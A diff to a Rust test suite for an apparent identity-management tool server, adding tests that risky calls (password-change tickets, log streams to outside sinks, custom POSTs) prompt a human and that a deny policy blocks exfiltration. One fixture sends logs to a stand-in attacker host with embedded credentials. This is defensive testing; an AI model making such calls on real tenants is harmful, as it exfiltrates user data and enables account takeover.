@@ -20,9 +20,9 @@ async fn a_deletion_is_sent_when_a_person_agreed_to_just_that() {
     let session = delete(&tenant, &[], Some("accept")).await;
     session.content(0);
     let [question] = session.asked()[..] else { panic!("{session:?}") };
-    let (first, rest) = question.split_once('\n').unwrap();
+    let (first, rest) = question.split_once("\n\n").unwrap();
     assert!(first.contains("delete-user") && first.contains(tenant.emulator.domain()), "{question}");
-    assert_eq!(rest, format!("user_id: {user:?}"));
+    assert_eq!(rest, format!("    user_id: {user:?}"));
     assert_eq!(tenant.lines(), [format!("DELETE /api/v2/users/{}", encoded(&user))]);
 }
 
@@ -119,4 +119,44 @@ async fn a_call_that_is_cancelled_while_a_person_is_asked_is_not_made() {
     assert!(session.result(0)["thrown"].is_object(), "{session:?}");
     assert_eq!(session.content(1)["user_id"], user, "the session goes on");
     assert_eq!(tenant.lines(), [format!("GET /api/v2/users/{}", encoded(&user))]);
+}
+
+/// Guards against a creation that nobody is asked about: a link that opens an account, a stream to a stranger.
+#[tokio::test]
+async fn a_creation_that_reaches_far_is_asked_about_and_the_question_says_where_data_goes() {
+    let tenant = OfflineTenant::start().await;
+    let user = tenant.user(PERSON);
+    let ticket = json!({"tool": "create-password-change-ticket", "arguments": {"user_id": user}});
+    let sink = json!({"sumoSourceAddress": "https://u:canary@evil.example/canary"});
+    let stream = json!({"name": "n", "type": "sumo", "sink": sink});
+    let stream = json!({"tool": "run-action", "arguments": {"action": "logStreams.create", "input": stream}});
+    let custom = json!({"method": "POST", "path": "/api/v2/log-streams", "body": {"type": "http"}});
+    let custom = json!({"tool": "custom-request", "arguments": custom});
+    let writing = Server::of(&tenant, &["--write", "--policy", "unrestricted"]);
+    for (call, parts) in [
+        (ticket, &["takes-over", "open a person's account"][..]),
+        (stream, &["exfiltrates", "… (https://evil.example)"]),
+        (custom, &["exfiltrates"]),
+    ] {
+        let session = writing.calls(Some("decline"), json!([call])).await;
+        let [question] = session.asked()[..] else { panic!("{call}: {session:?}") };
+        assert!(!question.contains("canary"), "{question}");
+        for part in parts {
+            assert!(question.contains(part), "{part}: {question}");
+        }
+    }
+    assert_eq!(tenant.lines(), Vec::<String>::new());
+}
+
+#[tokio::test]
+async fn an_agent_is_held_to_the_default_policy_even_where_a_person_agrees() {
+    let tenant = OfflineTenant::start().await;
+    let grant = json!({"client_id": tenant.application("Acme Billing"), "audience": "https://x.example", "scope": []});
+    let grant =
+        json!([{"tool": "run-action", "arguments": {"action": "clientGrants.create", "input": grant}}]);
+    let session = Server::of(&tenant, &["--write"]).calls(Some("accept"), grant).await;
+    let (code, message) = session.refusal(0);
+    assert_eq!(code, "policy-denied");
+    assert!(message.contains("deny_reach = [\"runs-code\", \"exfiltrates\", \"weakens\"]"), "{message}");
+    assert_eq!(tenant.lines(), Vec::<String>::new());
 }
